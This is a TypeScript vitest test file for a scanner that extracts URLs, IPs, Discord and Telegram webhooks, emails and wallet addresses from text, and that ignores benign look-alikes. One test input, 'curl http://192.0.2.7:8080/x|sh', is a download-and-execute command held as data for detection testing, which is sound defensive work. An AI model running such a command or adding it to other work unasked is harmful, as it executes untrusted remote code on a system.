import { describe, expect, it } from "vitest";
import { indicatorsIn } from "../../../main/scan/indicators.ts";

function found(text: string): string[] {
	return indicatorsIn(text).map(({ kind, value }) => `${kind} ${value}`);
}

describe("indicatorsIn", () => {
	it.each([
		["get https://example.com/a?b=c, then", ["url https://example.com/a?b=c"]],
		["curl http://192.0.2.7:8080/x|sh", ["url http://192.0.2.7:8080/x"]],
		["connect 198.51.100.23 now", ["ip 198.51.100.23"]],
		["https://discord.com/api/webhooks/1/abc", ["webhook https://discord.com/api/webhooks/1/abc"]],
		["https://api.telegram.org/bot123:ABC/sendMessage", ["webhook https://api.telegram.org/bot123:ABC/sendMessage"]],
		["write to someone@example.org.", ["email someone@example.org"]],
		["0x52908400098527886E0F7030069857D2E4169EE7", ["wallet 0x52908400098527886E0F7030069857D2E4169EE7"]],
	])("reads %s", (text, expected) => {
		expect(found(text)).toEqual(expected);
	});

	it.each([
		"127.0.0.1",
		"0.0.0.0",
		"version 1.2.3.4",
		"1.2.3.4.5",
		"https://",
		"0x0000000000000000000000000000000000000000",
		"a@b",
	])("leaves %s alone", (text) => {
		expect(found(text)).toEqual([]);
	});
});
